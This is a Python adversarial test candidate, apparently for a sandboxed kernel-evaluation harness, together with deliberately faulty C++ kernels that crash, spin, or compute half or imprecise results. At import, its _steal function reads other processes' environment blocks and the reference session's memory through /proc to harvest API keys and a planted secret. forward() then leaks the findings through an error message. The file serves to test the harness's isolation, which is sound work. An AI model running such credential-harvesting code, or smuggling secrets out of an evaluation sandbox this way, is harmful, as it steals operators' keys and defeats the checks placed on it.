# expect: runtime_error
# Reads other processes through /proc: every environment block it can open (API keys, tokens)
# and the memory of the reference session (whose source holds a planted secret),
# at import (in the run worker the reference session is up by then), then fails in forward with
# what it found, so that the verdict's message carries it out. Behind the boundary it is pid 1 of
# its own PID namespace and sees no other process.
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

KERNELS = r"""
#include <torch/extension.h>
#include <cmath>

// Shared by every C++ candidate of the adversarial suite, so the suite compiles once.
static void body(const float* in, float* out, int64_t begin, int64_t end, float s) {
    for (int64_t i = begin; i < end; ++i) {
        float v = in[i];
        out[i] = (v > 0.f ? v : 0.f) * s + v;
    }
}

torch::Tensor relu_scale_add(torch::Tensor x, double scale) {
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    body(xc.data_ptr<float>(), y.data_ptr<float>(), 0, xc.numel(), (float)scale);
    return y;
}

// partial computation: only the first half of the output is written
torch::Tensor relu_scale_add_half(torch::Tensor x, double scale) {
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    body(xc.data_ptr<float>(), y.data_ptr<float>(), 0, xc.numel() / 2, (float)scale);
    return y;
}

// lower precision: the result rounded to a 1/4 grid (an 8-bit-like format)
torch::Tensor relu_scale_add_coarse(torch::Tensor x, double scale) {
    auto y = relu_scale_add(x, scale);
    float* p = y.data_ptr<float>();
    for (int64_t i = 0; i < y.numel(); ++i) p[i] = std::round(p[i] * 4.f) / 4.f;
    return y;
}

// writes the result into its input and returns it
torch::Tensor relu_scale_add_inplace(torch::Tensor x, double scale) {
    float* p = x.data_ptr<float>();
    body(p, p, 0, x.numel(), (float)scale);
    return x;
}

torch::Tensor crash(torch::Tensor x) {
    volatile float* p = nullptr;
    p[12345] = 1.f;
    return x;
}

torch::Tensor spin(torch::Tensor x) {
    volatile int64_t k = 0;
    while (true) { k = k + 1; }
    return x;
}
"""

ext = load_inline(name="ext", cpp_sources=KERNELS,
                  functions=["relu_scale_add", "relu_scale_add_half", "relu_scale_add_coarse",
                             "relu_scale_add_inplace", "crash", "spin"])

import os
import re

LOOT = re.compile(rb"(sk-keval-[0-9a-z]{8,}|keval-reference-secret-[0-9a-z]{8,})")


def _steal() -> tuple:
    found, others = set(), 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        others += 1
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                found.update(m.decode() for m in LOOT.findall(f.read()))
            with open(f"/proc/{pid}/comm") as f:
                is_reference = f.read().strip() == "keval-ref"
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                is_reference |= b"--_worker\0ref\0" in f.read()
        except OSError:
            continue
        if not is_reference:
            continue
        budget = 256 << 20
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                for line in maps:
                    span, perms = line.split()[:2]
                    start, end = (int(a, 16) for a in span.split("-"))
                    if not perms.startswith("rw") or budget <= 0 or any("secret" in f for f in found):
                        continue
                    for at in range(start, end, 1 << 22):
                        try:
                            mem.seek(at)
                            chunk = mem.read(min(1 << 22, end - at))
                        except OSError:
                            break
                        budget -= len(chunk)
                        found.update(m.decode() for m in LOOT.findall(chunk))
        except OSError:
            pass
    return others, sorted(found)


OTHERS, FOUND = _steal()


class ModelNew(nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        raise RuntimeError(f"saw {OTHERS} other processes; loot: {FOUND}")
